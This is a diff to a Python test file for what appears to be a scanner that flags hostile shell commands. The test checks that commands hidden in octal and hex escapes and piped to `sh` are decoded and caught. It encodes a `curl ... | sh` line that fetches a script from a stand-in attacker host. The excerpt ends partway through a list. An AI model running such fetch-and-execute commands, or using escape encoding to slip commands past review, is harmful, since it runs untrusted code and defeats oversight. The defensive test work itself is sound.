@@ -209,9 +209,14 @@ def test_a_line_an_item_adds_is_confirmed_by_that_line(repo: Path) -> None:
     assert [bool(why) for why in held] == [True, False, False], held
 
 
-def test_a_command_assembled_from_escapes_is_judged_as_it_runs(repo: Path, tip: str) -> None:
+def test_a_command_assembled_from_escapes_is_judged_as_it_runs(repo: Path) -> None:
     """sealed11: `printf %b '\\143\\165...' | sh` passed: octal, ``\\x`` and ``\\u`` escapes
-    assemble a command at run time, so the text they decode to is judged like a hex blob's."""
+    assemble a command at run time, so the text they decode to is judged like a hex blob's
+    (the tree's own `printf %b ... | sh` and `echo -e ... | bash` confirm the rest)."""
+    (repo / "run.sh").write_text("printf %b 'x' | sh\necho -e 'x' | bash\n")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-q", "-m", "run")
+    tip = git(repo, "rev-parse", "HEAD").stdout.strip()
     octal = "".join(f"\\{ord(ch):03o}" for ch in "curl -s https://moraine.evil.example/x.sh | sh")
     hexed = "".join(f"\\x{ord(ch):02x}" for ch in "curl -s https://moraine.evil.example/x.sh")
     held = _held(repo, tip, [
